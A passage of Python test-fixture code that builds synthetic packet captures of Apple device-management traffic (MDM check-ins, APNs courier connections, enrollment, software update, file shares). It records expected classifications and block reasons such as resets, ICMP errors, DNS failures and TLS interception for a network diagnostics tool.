    cour.ack(tp + 0.0213 + rtt, False)

    # -- iPhone: MDM check-in on 8443 -------------------------------------------------------
    dns_lookup(cap, iphone, DEV4, 61203, 3.52, "mdm.example.com", 1, [], [MDM], rtt=0.0011, ttl=300)
    m = TcpFlow(cap, DEV4, 49815, MDM, 8443, iphone,
                "MDM check-in after the push: TLS 1.2 to mdm.example.com:8443 (ALPN h2,http/1.1; server "
                "http/1.1; leaf from the JSS built-in CA), PUT Idle, empty 200 (no commands queued), "
                "close. Assumption: no site profile and mdm.example.com matches no built-in name "
                "rule, so the built-in port rule 8443 -> mdm decides (classified_by port)", s_ttl=63)
    r2 = 0.0011
    t = tls12_open(m, 3.5236, r2, "mdm.example.com", ["h2", "http/1.1"], "http/1.1",
                   Chain("CN=mdm.example.com", ("mdm.example.com",), JSS_CA, JSS_CA, rsa_issuer=True,
                         with_intermediate=False))
    t = exchange(m, t + 0.0004, r2, 612, 161, think=0.0141)
    tls_close(m, t + 0.2113, r2)
    classify(m, "mdm", "port")

    # -- MDM server: legacy provider script on 2197, refused with a fatal alert -----------------
    leg = TcpFlow(cap, MDM, 41880, APNS_API, 2197, mdm_srv,
                  "legacy provider script to api.push.apple.com:2197 offering only RC4/3DES suites "
                  "(TLS 1.2 ClientHello, SNI api.push.apple.com, ALPN h2): APNs answers with a fatal "
                  "handshake_failure alert and closes; no ServerHello, so no tls_version. sni decides")
    r = 0.0189
    t = leg.handshake(5.2107, r) + 0.0011
    tls_hello(leg, t, "api.push.apple.com", ["h2"], False, suites=[0x000A, 0x0005, 0x0004])
    t += r
    leg.send(t, False, ALERT_HANDSHAKE_FAILURE)
    note(leg, tls_alert="fatal/handshake_failure")
    leg.seg(t + 0.00002, False, "FA")
    leg.ack(t + 0.0004, True)
    tcp_close(leg, t + 0.0009, r)
    classify(leg, "apns", "sni")

    # -- iPad: courier without SNI (named by the earlier DNS answer) ----------------------------
    dns_lookup(cap, ipad, IPAD4, 55410, 8.0, "12-courier.push.apple.com", 1,
               ["12.courier-push-apple.com.akadns.net"], [COURIER_443], rtt=0.0152)
    nos = TcpFlow(cap, IPAD4, 50122, COURIER_443, 5223, ipad,
                  "APNs courier whose ClientHello carries no SNI and no ALPN (TLS 1.2, leaf issued by "
                  "Apple Server Authentication CA); the name comes only from the DNS answer for "
                  "12-courier.push.apple.com 0.03 s earlier, so dns decides; stays open")
    r = 0.0231
    t = tls12_open(nos, 8.0207, r, None, None, None, COURIER_CHAIN)
    nos.send(t + 0.0019, True, app(nos, True, 1291))  # Connect; the capture moves on before the ack
    classify(nos, "apns", "dns")

    # -- iPad: cloud MDM (Jamf Cloud) ------------------------------------------------------------
    dns_lookup(cap, ipad, IPAD4, 55412, 10.4, "example.jamfcloud.com", 1, [], [JAMFCLOUD], rtt=0.0168)
    jc = TcpFlow(cap, IPAD4, 50124, JAMFCLOUD, 443, ipad,
                 "cloud MDM check-in: TLS 1.3 to example.jamfcloud.com:443 (198.51.100.23, not Apple), "
                 "ALPN h2,http/1.1; PUT Idle, empty 200; close. sni decides (*.jamfcloud.com -> mdm)")
    r = 0.0342
    t = tls13_open(jc, 10.4191, r, "example.jamfcloud.com", ["h2", "http/1.1"])
    t = exchange(jc, t + 0.0005, r, 598, 161, think=0.0381)
    tls_close(jc, t + 0.3012, r)
    classify(jc, "mdm", "sni")

    # -- MacBook: enrollment, split ClientHellos -------------------------------------------------
    dns_lookup(cap, mac_, MACB4, 62001, 12.0, "deviceenrollment.apple.com", 1,
               ["deviceenrollment.apple.com.akadns.net"], [ENROLL], rtt=0.0123)
    de = TcpFlow(cap, MACB4, 51010, ENROLL, 443, mac_,
                 "ADE lookup: TLS 1.3 to deviceenrollment.apple.com; its ClientHello is cut in two "
                 "segments in the middle of the server_name extension and the second segment is "
                 "captured FIRST (out of order; the late head counts as a retransmit by the "
                 "docs/flows.md rule); one request/response; close. sni decides")
    r = 0.0214
    t = tls13_open(de, 12.0131, r, "deviceenrollment.apple.com", ["h2", "http/1.1"],
                   split=(mid_sni("deviceenrollment.apple.com"), True))
    t = exchange(de, t + 0.0004, r, 420, 380, think=0.0622)
    tls_close(de, t + 0.0511, r)
    classify(de, "enrollment", "sni")

    dns_lookup(cap, mac_, MACB4, 62003, 13.1, "iprofiles.apple.com", 1,
               ["iprofiles.apple.com.akadns.net"], [IPROFILES], rtt=0.0118)
    ip = TcpFlow(cap, MACB4, 51012, IPROFILES, 443, mac_,
                 "enrollment profile fetch: TLS 1.2 to iprofiles.apple.com (leaf from Apple Public "
                 "Server ECC CA 12 - G1); the ClientHello is split in order over two segments, the "
                 "first ending in the middle of the server_name extension; close. sni decides")
    t = tls12_open(ip, 13.1128, r, "iprofiles.apple.com", ["h2", "http/1.1"], "h2",
                   Chain("CN=iprofiles.apple.com,O=Apple Inc.,ST=California,C=US", ("iprofiles.apple.com",),
                         APPLE_ECC_CA, APPLE_ROOT_G3, with_intermediate=False), split=(mid_sni("iprofiles.apple.com"), False))
    t = exchange(ip, t + 0.0004, r, 300, 520, think=0.0433)
    tls_close(ip, t + 0.0322, r)
    classify(ip, "enrollment", "sni")

    dns_lookup(cap, mac_, MACB4, 62005, 15.0, "mdm-old.example.com", 1, [], [], rtt=0.0021,
               nxdomain="example.com")

    # -- MacBook: legacy SUS on 8088 (plain HTTP) ---------------------------------------------
    dns_lookup(cap, mac_, MACB4, 62007, 15.5, "sus.example.com", 1, [], [SUS], rtt=0.0010, ttl=300)
    sus = TcpFlow(cap, MACB4, 51016, SUS, 8088, mac_,
                  "legacy macOS Server Software Update Service: GET /index.sucatalog (User-Agent "
                  "...Darwin/23.4.0) to sus.example.com:8088, 200 with the rewritten catalog; FIN both "
                  "ways. http-host decides: the clear-text request (catalog path, Darwin UA) on 8088; "
                  "sus.example.com itself matches no built-in name", s_ttl=63)
    r = 0.0009
    t = sus.handshake(15.5021, r) + 0.0002
    t = http_request(sus, t, "GET", "sus.example.com:8088", "/index.sucatalog", SUS_UA)
    t += r
    sus.ack(t, False)
    t = http_response(sus, t + 0.0031, 200, "OK", HTTP_DATE.format(17) + "Server: Apache\r\n"
                      "Last-Modified: Mon, 10 Mar 2025 22:04:11 GMT\r\nContent-Type: text/plain\r\n",
                      SUCATALOG)
    sus.ack(t + 0.00005, True)
    tcp_close(sus, t + 0.0122, r)
    classify(sus, "sus", "http-host")

    # -- MacBook: Apple software update catalog over 443 from a CDN ---------------------------
    dns_lookup(cap, mac_, MACB4, 62009, 17.0, "swscan.apple.com", 1,
               ["swscan.apple.com.edgekey.net", "e673.dsce9.akamaiedge.net"], [SWSCAN_CDN], rtt=0.0144)
    sw = TcpFlow(cap, MACB4, 51018, SWSCAN_CDN, 443, mac_,
                 "softwareupdated catalog check: TLS 1.3 to swscan.apple.com on a CDN address "
                 "(198.51.100.77, not 17/8), ALPN h2,http/1.1; one request/response; close. sni decides")
    r = 0.0061
    t = tls13_open(sw, 17.0153, r, "swscan.apple.com", ["h2", "http/1.1"])
    t = exchange(sw, t + 0.0003, r, 342, 420, think=0.0093)
    tls_close(sw, t + 0.0202, r)
    classify(sw, "sus", "sni")

    # -- MacBook: file-share distribution point (SMB, AFP) ------------------------------------
    dns_lookup(cap, mac_, MACB4, 62011, 19.0, "fs.example.com", 1, [], [FS], rtt=0.0010, ttl=300)
    smb = TcpFlow(cap, MACB4, 51020, FS, 445, mac_,
                  "SMB2 NEGOTIATE request (dialects 2.0.2-3.0.2) / response (3.0.2) to the file-share "
                  "DP fs.example.com, then the Mac closes (reachability probe before mounting). port "
                  "decides (445); server_name from the DNS answer", s_ttl=63)
    r = 0.0008
    t = smb.handshake(19.0013, r) + 0.0001
    t = smb_negotiate(smb, t, r)
    smb.ack(t + 0.0001, True)
    tcp_close(smb, t + 0.0051, r)
    classify(smb, "file_share", "port")

    afp = TcpFlow(cap, MACB4, 51022, FS, 548, mac_,
                  "AFP over TCP (DSI) to the same DP: DSIOpenSession request/reply, DSICloseSession, "
                  "FIN both ways. port decides (548); server_name from the DNS answer", s_ttl=63)
    t = afp.handshake(19.5102, r) + 0.0001
    t = afp.send(t, True, dsi(0, 4, 1, b"\x01\x04" + u32(1024)))
    t = afp.send(t + r, False, dsi(1, 4, 1, b"\x00\x04" + u32(0x40000)))
    afp.ack(t + 0.0001, True)
    t = afp.send(t + 0.0211, True, dsi(0, 1, 2, b""))
    afp.ack(t + r, False)
    tcp_close(afp, t + r + 0.0002, r)
    classify(afp, "file_share", "port")

    # -- MacBook: HTTP distribution point, manifest -------------------------------------------
    dns_lookup(cap, mac_, MACB4, 62013, 21.0, "dp.example.com", 1, [], [DP], rtt=0.0010, ttl=300)
    mf = TcpFlow(cap, MACB4, 51024, DP, 80, mac_,
                 "HTTP distribution point: GET /manifests/Office.plist (Munki-style client) from "
                 "dp.example.com, 200 with the plist; FIN both ways. http-host decides (assumed rule: "
                 "a clear-text GET of a package .pkg/.dmg or its manifest .plist on 80 -> "
                 "http_distribution)", s_ttl=63)
    r = 0.0009
    t = mf.handshake(21.0014, r) + 0.0002
    t = http_request(mf, t, "GET", "dp.example.com", "/manifests/Office.plist", MUNKI_UA)
    t += r
    mf.ack(t, False)
    t = http_response(mf, t + 0.0008, 200, "OK", HTTP_DATE.format(23) + "Server: nginx\r\n"
                      "Content-Type: application/xml\r\nETag: \"67cf3a1e-4a1\"\r\n", MANIFEST)
    mf.ack(t + 0.00005, True)
    tcp_close(mf, t + 0.0042, r)
    classify(mf, "http_distribution", "http-host")

    # -- iPhone: iCloud ----------------------------------------------------------------------
    dns_lookup(cap, iphone, DEV4, 61207, 24.0, "gateway.icloud.com", 1,
               ["gateway.fe2.apple-dns.net"], [ICLOUD], rtt=0.0131)
    ic = TcpFlow(cap, DEV4, 49822, ICLOUD, 443, iphone,
                 "iCloud: TLS 1.2 to gateway.icloud.com (17.248.145.71; leaf from Apple Public Server "
                 "RSA CA 12 - G1), ALPN h2,http/1.1 (server h2); one request; close. sni decides "
                 "(apple)")
    r = 0.0198
    t = tls12_open(ic, 24.0141, r, "gateway.icloud.com", ["h2", "http/1.1"], "h2",
                   Chain("CN=gateway.icloud.com,O=Apple Inc.,ST=California,C=US",
                         ("gateway.icloud.com", "*.gateway.icloud.com"), APPLE_RSA_CA, DIGICERT_G2,
                         rsa_issuer=True, with_intermediate=False))
    t = exchange(ic, t + 0.0004, r, 300, 320, think=0.0311)
    tls_close(ic, t + 1.0021, r)
    classify(ic, "apple", "sni")

    # -- iPhone: flow whose DNS answer comes only after it started ------------------------------
    late = TcpFlow(cap, DEV4, 49826, SWCDN2, 443, iphone,
                   "TLS 1.3 to 17.253.5.207:443 with no SNI (ALPN http/1.1); the only DNS answer for "
                   "that address (swcdn.apple.com) arrives 1.1 s AFTER the SYN, so it must not name "
                   "the flow: server_name null, address (17/8) decides -> apple")
    r = 0.0071
    t = tls13_open(late, 27.0042, r, None, ["http/1.1"])
    t = exchange(late, t + 0.0003, r, 200, 300, think=0.0142)
    dns_lookup(cap, iphone, DEV4, 61209, 28.1, "swcdn.apple.com", 1, ["swcdn.apple.com.akadns.net"],
               [SWCDN2], rtt=0.0117)
    tls_close(late, 28.6013, r)
    classify(late, "apple", "address")

    # -- MacBook: XMPP on 5223 (not APNs) ---------------------------------------------------
    dns_lookup(cap, mac_, MACB4, 62015, 31.0, "chat.example.org", 1, [], [XMPP], rtt=0.0232)
    xm = TcpFlow(cap, MACB4, 51028, XMPP, 5223, mac_,
                 "XMPP direct TLS on 5223 to chat.example.org (203.0.113.5, not Apple): TLS 1.2, ALPN "
                 "xmpp-client, leaf issued by Let's Encrypt R11; stream open, stays open. Port 5223 "
                 "alone is never APNs: other, decided by the (non-Apple) SNI")
    r = 0.0401
    t = tls12_open(xm, 31.0241, r, "chat.example.org", ["xmpp-client"], "xmpp-client",
                   Chain("CN=chat.example.org", ("chat.example.org", "conference.chat.example.org"),
                         LE_R11, ISRG_X1, rsa_issuer=True, with_intermediate=False))
    t = exchange(xm, t + 0.0008, r, 233, 420, think=0.0011)
    classify(xm, "other", "sni")

    # -- Mac mini over IPv6: plain HTTPS --------------------------------------------------
    dns_lookup(cap, mini, MINI6, 58000, 34.0, "www.example.com", 28, [], [WWW6], rtt=0.0192)
    www = TcpFlow(cap, MINI6, 52040, WWW6, 443, mini,
                  "plain HTTPS over IPv6 to www.example.com ([2001:db8:80::1], documentation address): "
                  "TLS 1.3, ALPN h2,http/1.1; one request; close. other, decided by the SNI")
    r = 0.0824
    t = tls13_open(www, 34.0201, r, "www.example.com", ["h2", "http/1.1"])
    t = exchange(www, t + 0.0004, r, 240, 300, think=0.0021)
    tls_close(www, t + 0.5002, r)
    classify(www, "other", "sni")

    # -- MacBook: package download, cut by the end of the capture -------------------------------
    pk = TcpFlow(cap, MACB4, 51030, DP, 80, mac_,
                 "HTTP distribution point: GET /packages/Office.pkg from dp.example.com, 200 "
                 "(Content-Length 1.3 GB); the capture ends after the first data segment, flow "
                 "left open. http-host decides (.pkg path)", s_ttl=63)
    r = 0.0009
    t = pk.handshake(38.2013, r) + 0.0002
    t = http_request(pk, t, "GET", "dp.example.com", "/packages/Office.pkg", MUNKI_UA)
    t += r
    pk.ack(t, False)
    body = b"xar!" + struct.pack("!HHQQI", 28, 1, 1611, 4789, 1) + rbytes(rng, 1388)
    hdrs = (HTTP_DATE.format(40) + "Server: nginx\r\nContent-Type: application/octet-stream\r\n"
            "Last-Modified: Fri, 07 Mar 2025 16:20:41 GMT\r\nAccept-Ranges: bytes\r\n")
    head = f"HTTP/1.1 200 OK\r\n{hdrs}Content-Length: 1318422716\r\n\r\n".encode()
    data = (head + body)[:1388]
    note(pk, http_status=200)
    t = pk.send(t + 0.0011, False, data, gap=0.000121)
    pk.ack(t + 0.00004, True)
    classify(pk, "http_distribution", "http-host")

    resolve_server_names(cap)
    expect = {(DEV4, 49826): None, (IPAD4, 50122): "12-courier.push.apple.com",
              (MACB4, 51020): "fs.example.com", (MACB4, 51022): "fs.example.com"}
    for fl in cap.flows:
        if (fl.client_ip, fl.client_port) in expect:
            assert fl.extra["server_name"] == expect[(fl.client_ip, fl.client_port)], fl.what
    return cap


# --------------------------------------------------------------------------- blocked_reasons / courier_flapping
# Ground truth for docs/blocked.md: block reasons with their evidence, DNS failures, rtt /
# TLS handshake / ttfb, and courier connection lifetimes. The per-flow facts (times, SYNs,
# payloads, RSTs, FINs) are read back from the frames built here; the TLS facts the helpers
# wrote (server ALPN, issuer, alerts) are recorded by the code that wrote them.

MAC_VLAN30 = "10.30.8.14"          # a MacBook on the wired VLAN 30
ROUTER_VLAN30 = "10.30.8.1"        # its gateway / firewall, which sends the ICMP errors
ROUTER6 = "fd00:20::1"
CAPTIVE = "17.253.27.205"          # captive.apple.com
PRIVATE_RELAY = "17.248.172.6"     # QUIC (UDP 443) to an Apple address
CONTOSO_CA = "CN=Contoso SSL Inspection CA,O=Contoso"
COURIER_LEAF = dataclasses.replace(COURIER_CHAIN, with_intermediate=False)
COURIER_ISSUERS = {APPLE_SRV_AUTH_CA}   # the issuer(s) the courier's leaf comes from (tls_expectations)
ALERT_UNKNOWN_CA = tls_record(0x15, b"\x02\x30")  # fatal(2), unknown_ca(48): 15 03 03 00 02 02 30
SERVER_WAIT_S = 10.0               # FlowOptions.server_wait_s
DNS_NO_ANSWER_MARGIN_S = 2.0
ICMP_NAMES = {(4, 3, 3): "port unreachable", (4, 3, 13): "administratively prohibited",
              (6, 1, 1): "administratively prohibited"}

# RFC 9001 A.1: the client Initial key, iv and header-protection key for this DCID (fixed, so
# the Initial below needs no key derivation and any QUIC dissector can open it).
QUIC_DCID = bytes.fromhex("8394c8f03e515708")
QUIC_KEYS = (bytes.fromhex("1f369613dd76d5467730efcbe3b1a22d"), bytes.fromhex("fa044b2f42a3fd3b46fb255c"),
             bytes.fromhex("9f50449e04a0e810283a1e9933adedd2"))


def quic_varint(v: int) -> bytes:
    for size, prefix in ((1, 0x00), (2, 0x40), (4, 0x80)):
        if v < 1 << (8 * size - 2):
            return (v | prefix << (8 * size - 8)).to_bytes(size, "big")
    raise ValueError(v)


def quic_initial(rng, sni: str, alpn: list[str], size: int = 1200) -> bytes:
    """A QUIC v1 client Initial (one CRYPTO frame with a TLS 1.3 ClientHello, PADDING to
    `size` bytes), protected per RFC 9001 with the RFC's test-vector DCID keys."""
    hello = client_hello_ex(rng, sni, alpn, True)[5:]       # the handshake message, no record header
    frame = b"\x06" + quic_varint(0) + quic_varint(len(hello)) + hello
    scid, pn_len = rbytes(rng, 8), 2
    head = (b"\xc1" + u32(1) + vec8(QUIC_DCID) + vec8(scid) + quic_varint(0))   # Initial, pn_len 2, no token
    plain_len = size - len(head) - 2 - pn_len - 16
    plain = frame + b"\x00" * (plain_len - len(frame))
    head += u16(0x4000 | (pn_len + plain_len + 16)) + u16(0)          # length, packet number 0
    key, iv, hp = QUIC_KEYS
    sealed = AESGCM(key).encrypt(iv, plain, head)                      # nonce = iv ^ pn (0)
    mask = Cipher(algorithms.AES(hp), modes.ECB()).encryptor().update(sealed[4 - pn_len:20 - pn_len])
    out = bytearray(head + sealed)
    out[0] ^= mask[0] & 0x0F
    for i in range(pn_len):
        out[len(head) - pn_len + i] ^= mask[1 + i]
    return bytes(out)


def dns_rcode(txid: int, qname: str, qtype: int, rcode: int) -> bytes:
    """An answer with an error rcode and no records (SERVFAIL 2, REFUSED 5), EDNS echoed."""
    msg = struct.pack("!HHHHHH", txid, 0x8180 | rcode, 1, 0, 0, 1) + dns_name(qname) + u16(qtype) + u16(1)
    return msg + b"\x00" + u16(41) + u16(4096) + u32(0) + u16(0)


def l3_of(f: Frame) -> bytes:
    """The IP packet inside an Ethernet frame built here (VLAN tags and min-frame padding off)."""
    ip = Ether(f.data).payload
    while not isinstance(ip, (IP, IPv6)):
        ip = ip.payload
    return bytes(ip)[: (ip.len if isinstance(ip, IP) else 40 + ip.plen)]


def ttl_of(f: Frame) -> int:
    pkt = Ether(f.data)
    return int(pkt[IPv6].hlim) if IPv6 in pkt else int(pkt[IP].ttl)


def rst_ttl_truth(cap: Capture, fl: Flow) -> dict:
    """The server's first RST's TTL, the server's own TTL (this flow's other packets, else its
    first packet in each other flow to that address, the most common one) and whether they
    differ by more than a hop (health/rst_origin.py)."""
    s = [f for f in fl.frames if not f.c2s]
    rst = next(f for f in s if "R" in f.tcp_flags)
    own = [f for f in s if "R" not in f.tcp_flags]
    if own:
        ref = ttl_of(own[0])
    else:
        firsts = [next((f for f in o.frames if not f.c2s and "R" not in f.tcp_flags), None)
                  for o in cap.flows if o is not fl and o.server_ip == fl.server_ip]
        seen = [ttl_of(f) for f in firsts if f is not None]
        ref = min(seen, key=lambda v: (-seen.count(v), v)) if seen else None
    return {"rst_ttl": ttl_of(rst), "server_ttl": ref,
            "rst_injected": None if ref is None else abs(ttl_of(rst) - ref) > 1}


def payload_of(f: Frame) -> bytes:
    # The transport payload's bytes as captured: `Raw in pkt` or re-serializing would depend on
    # which scapy layers are loaded (importing scapy's TLS layer makes 443 dissect as TLS).
    if f.note != "payload":
        return b""
    pkt = Ether(f.data)
    for layer in (TCP, UDP):
        if layer in pkt:
            return getattr(pkt[layer].payload, "original", None) or b""
    return b""


def icmp_error(cap: Capture, fl: Flow, quoted: Frame, dt: float, reporter: str, icmp_type: int,
               code: int, quote_max: int = 548) -> Frame:
    """An ICMP / ICMPv6 destination-unreachable from `reporter` to the client, quoting `quoted`
    (as much of the packet as fits in a 576-byte IPv4 error, the whole packet over IPv6)."""
    q = l3_of(quoted)
    if fl.v6:
        err = IPv6(src=reporter, dst=fl.client_ip, hlim=64) / ICMPv6DestUnreach(code=code) / Raw(q)
    else:
        err = IP(src=reporter, dst=fl.client_ip, ttl=64 if reporter == fl.server_ip else 255, id=0) \
            / ICMP(type=icmp_type, code=code) / Raw(q[:quote_max])
    t_ns = cap.quantize(quoted.t_ns + round(dt * 1e9), fl.link.iface)
    f = Frame(t_ns, fl.link.iface, fl.link.wrap(bytes(err), False, fl.v6))
    v = 6 if fl.v6 else 4
    non_flow(cap, f, f"ICMP{'v6' if fl.v6 else ''} {icmp_type}/{code} ({ICMP_NAMES[(v, icmp_type, code)]}) "
             f"from {reporter} quoting {fl.transport.upper()} {fl.client_ip}:{fl.client_port} -> "
             f"{fl.server_ip}:{fl.server_port}", "icmp_error")
    cap.icmp.append(dict(t_ns=t_ns, version=v, type=icmp_type, code=code, reporter=reporter,
                         key=(fl.transport, fl.client_ip, fl.client_port, fl.server_ip, fl.server_port)))
    return f


def tls_facts(fl: Flow, **kw):
    """What the bytes a helper wrote say: sni, server_alpn, tls_version, cert_issuer,
    server_alert, client_alert (first one wins), courier (the flow is the APNs courier)."""
    facts = fl.__dict__.setdefault("tls", {})
    for k, v in kw.items():
        facts.setdefault(k, v)


def ms(a_ns: int | None, b_ns: int | None) -> float | None:
    return None if a_ns is None or b_ns is None else (b_ns - a_ns) / 1e6


def flow_timing(fl: Flow) -> dict:
    """rtt_ms, tls_handshake_ms and ttfb_ms from the frames (docs/flows.md, docs/blocked.md)."""
    c = [f for f in fl.frames if f.c2s]
    s = [f for f in fl.frames if not f.c2s]

    def syn(f): return "S" in f.tcp_flags and "A" not in f.tcp_flags
    synacks = [f.t_ns for f in s if "S" in f.tcp_flags and "A" in f.tcp_flags]
    rtt = None
    if synacks:
        before = [f.t_ns for f in c if syn(f) and f.t_ns <= synacks[0]]
        rtt = ms(before[-1], synacks[0]) if before else None
    cpay = [f for f in c if payload_of(f)]
    spay = [f for f in s if payload_of(f)]
    hello = next((f.t_ns for f in cpay if payload_of(f)[:1] == b"\x16" and payload_of(f)[5:6] == b"\x01"), None)
    shello = next((f.t_ns for f in spay[:1] if payload_of(f)[:1] == b"\x16" and payload_of(f)[5:6] == b"\x02"), None)
    ttfb = None
    if cpay and spay and spay[0].t_ns > cpay[0].t_ns:
        ttfb = ms(cpay[0].t_ns, spay[0].t_ns)
    return {"rtt_ms": rtt, "tls_handshake_ms": ms(hello, shello) if hello and shello else None, "ttfb_ms": ttfb}


def block_verdict(cap: Capture, fl: Flow, capture_end_ns: int) -> tuple[str | None, dict | None]:
    """docs/blocked.md, first match wins, evaluated on the frames built."""
    c = [f for f in fl.frames if f.c2s]
    s = [f for f in fl.frames if not f.c2s]

    def syn(f): return "S" in f.tcp_flags and "A" not in f.tcp_flags
    tcp = fl.transport == "tcp"
    syns = [f.t_ns for f in c if syn(f)]
    if tcp and not syns:
        return None, None                                  # started before the capture
    first, last = min(f.t_ns for f in fl.frames), max(f.t_ns for f in fl.frames)
    answered = any("S" in f.tcp_flags and "A" in f.tcp_flags for f in s) if tcp else bool(s)
    key = (fl.transport, fl.client_ip, fl.client_port, fl.server_ip, fl.server_port)
    errs = sorted((e for e in cap.icmp if e["key"] == key and first <= e["t_ns"] <= last + 5_000_000_000
                   and not (e["version"] == 4 and e["type"] == 3 and e["code"] == 4)), key=lambda e: e["t_ns"])
    if errs and not answered:
        e = errs[0]
        return "icmp_unreachable", {"icmp_version": e["version"], "icmp_type": e["type"], "icmp_code": e["code"],
                                    "icmp_name": ICMP_NAMES[(e["version"], e["type"], e["code"])],
                                    "reporter": e["reporter"], "icmp_ts": f"{e['t_ns'] / 1e9:.9f}",
                                    "after_first_frame_ms": ms(first, e["t_ns"])}
    if not tcp:
        return None, None
    state = zeek_state(fl)
    if state == "REJ":
        rst = min(f.t_ns for f in s if "R" in f.tcp_flags)
        return "reset", {"rst_after_syn_ms": ms(max(t for t in syns if t <= rst), rst), "syn_count": len(syns),
                         **rst_ttl_truth(cap, fl)}
    if state in ("S0", "RSTOS0"):
        return "no_response", {"syn_count": len(syns), "syn_spread_s": (max(syns) - min(syns)) / 1e9}
    facts = getattr(fl, "tls", {})
    if facts.get("server_alert", "").startswith("fatal/"):
        return "tls_alert", {"alert": facts["server_alert"]}
    cpay = [f for f in c if payload_of(f)]
    spay = [f for f in s if payload_of(f)]
    if facts.get("courier") and facts.get("tls_version") == "TLS 1.2":
        flight = spay[0].t_ns
        ends = [f.t_ns for f in c if f.t_ns > flight and ("F" in f.tcp_flags or "R" in f.tcp_flags
                                                          or payload_of(f)[:1] == b"\x15")]
        close = (ends[0] - flight) / 1e9 if ends else None
        ev = {"cert_issuer": facts.get("cert_issuer"), "server_alpn": facts.get("server_alpn"),
              "client_alert": facts.get("client_alert"), "client_close_after_s": close}
        if facts.get("cert_issuer") and facts["cert_issuer"] not in COURIER_ISSUERS:
            return "tls_intercepted", {"evidence": "issuer", **ev}
        if not (facts.get("server_alpn") or "").startswith("apns-") and close is not None and close <= 1.0:
            return "tls_intercepted", {"evidence": "alpn", **ev}
    established = any("S" in f.tcp_flags and "A" in f.tcp_flags for f in s) and any(not syn(f) for f in c)
    server_rst = [f.t_ns for f in s if "R" in f.tcp_flags]
    sent = sum(len(payload_of(f)) for f in cpay)
    if established and server_rst and not spay:
        rst = server_rst[0]
        return "reset_after_handshake", {
            "rst_ts": f"{rst / 1e9:.9f}", "rst_after_client_payload_ms": ms(cpay[0].t_ns, rst) if cpay else None,
            "client_payload_bytes": sum(len(payload_of(f)) for f in cpay if f.t_ns <= rst), **rst_ttl_truth(cap, fl)}
    if established and cpay and not spay and not server_rst:
        closed = any("F" in f.tcp_flags or "R" in f.tcp_flags for f in fl.frames)
        waited = ((last if closed else capture_end_ns) - cpay[0].t_ns) / 1e9
        if waited >= SERVER_WAIT_S:
            return "no_server_data", {"client_payload_bytes": sent, "waited_s": waited}
    return None, None


def attach_block_truth(cap: Capture, expect: dict):
    """Per flow: blocked, block_reason, evidence, timing and the TLS facts; `expect` maps
    (client_ip, client_port) -> the reason each flow was built to show (checked here)."""
    end = max(f.t_ns for f in cap.frames)
    for fl in cap.flows:
        reason, evidence = block_verdict(cap, fl, end)
        want = expect.get((fl.client_ip, fl.client_port))
        assert reason == want, (fl.what, reason, want)
        facts = getattr(fl, "tls", {})
        fl.extra = {"blocked": reason is not None, "block_reason": reason, "evidence": evidence,
                    **flow_timing(fl),
                    **{k: facts.get(k) for k in ("sni", "tls_version", "server_alpn", "cert_issuer",
                                                 "server_alert", "client_alert")}}


def dns_case(cap: Capture, link: Link, client: str, port: int, t: float, qname: str, qtype: int,
             answer: str, rtt: float = 0.0012) -> UdpFlow:
    """A DNS lookup whose answer is `answer`: nxdomain, servfail, refused, sinkhole, nodata,
    none (no answer at all). Records the expected DNS failure (or why it is not one)."""
    qt = {1: "A", 28: "AAAA"}[qtype]
    fl = UdpFlow(cap, client, port, RESOLVER, 53, link, f"DNS {qt} {qname} -> {answer}")
    txid = cap.rng.getrandbits(16)
    q = fl.send(t, True, dns_query(txid, qname, qtype))
    resp = {"nxdomain": lambda: dns_nxdomain(txid, qname, qtype, ".".join(qname.split(".")[-2:]),
                                             "ns1." + ".".join(qname.split(".")[-2:]),
                                             "hostmaster." + ".".join(qname.split(".")[-2:])),
            "servfail": lambda: dns_rcode(txid, qname, qtype, 2),
            "refused": lambda: dns_rcode(txid, qname, qtype, 5),
            "sinkhole": lambda: dns_answer(txid, qname, qtype, [(1, 60, ip4b("0.0.0.0"))]),
            "nodata": lambda: dns_answer(txid, qname, qtype, [(5, 300, dns_name(qname + ".akadns.net"))]),
            "none": lambda: None}[answer]()
    ans = fl.send(t + rtt, False, resp) if resp else None
    apple = qname == "apple.com" or qname.endswith(".apple.com")
    row = {"qname": qname, "qtype": qt, "client": client, "client_port": port, "server": RESOLVER,
           "server_port": 53}
    if answer == "nodata" or not apple:
        cap.dns_ok.append({**row, "answer": answer.upper() if answer != "nodata" else "NOERROR, no AAAA",
                           "why": "not an Apple or site name" if not apple else
                           "NOERROR without the asked type is a valid answer"})
    else:
        cap.dns_failures.append({**row, "reason": f"dns_{'no_answer' if answer == 'none' else answer}",
                                 "ts": f"{(ans or q).t_ns / 1e9:.9f}"})
    return fl


def gen_blocked_reasons() -> Capture:
    cap = Capture("blocked_reasons.pcap", [(LT_ETHERNET, 6)], start_offset_s=18000)
    cap.icmp, cap.dns_failures, cap.dns_ok = [], [], []
    rng = cap.rng
    iphone = Link("eth", c_mac=IPHONE_MAC)
    ipad = Link("eth", c_mac=IPAD_MAC)
    mdm_srv = Link("eth", c_mac=MDM_MAC)
    mac30 = Link("eth", c_mac=MACBOOK_MAC, vlans=((0x8100, 30, 0),))
    expect = {}

    def case(fl, reason=None):
        expect[(fl.client_ip, fl.client_port)] = reason
        return fl

    # -- healthy: a courier that was up before the capture began, then reset -----------------
    old = case(TcpFlow(cap, DEV4, 49702, "17.57.146.36", 5223, iphone,
                       "courier running before the capture (no SYN, mid-stream sequence numbers): one "
                       "push record + device ack, then a RST from the server side 20 s later (RSTRH). "
                       "Never blocked: its start was not seen", mid_stream=True))
    old.keys = (Tls12Keys(rng), Tls12Keys(rng))
    old.keys[0].seq, old.keys[1].seq = 37, 35
    old.c.last_tsval, old.s.last_tsval = old.c.ts_base - 9000, old.s.ts_base - 8800
    push(old, 0.0503, 0.0214, size=180)
    old.seg(20.0503, False, "RA")

    # -- DNS -----------------------------------------------------------------------------
    dns_case(cap, iphone, DEV4, 61301, 0.1, "1-courier.push.apple.com", 1, "nxdomain")
    dns_case(cap, iphone, DEV4, 61303, 0.31, "5-courier.push.apple.com", 1, "none")
    dns_case(cap, iphone, DEV4, 61305, 0.52, "20-courier.push.apple.com", 1, "sinkhole", rtt=0.0009)

    # -- no_response: 3 SYNs with back-off, nothing back ---------------------------------------
    nr = case(TcpFlow(cap, DEV4, 50001, "17.57.146.30", 5223, iphone,
                      "courier SYNs to 17.57.146.30:5223 at t, t+1 s, t+3 s (same ISN), nothing back (S0)"),
              "no_response")
    for dt in (0.0, 1.0, 3.0):
        nr.seg(1.0 + dt, True, "S", seq=nr.c.isn)

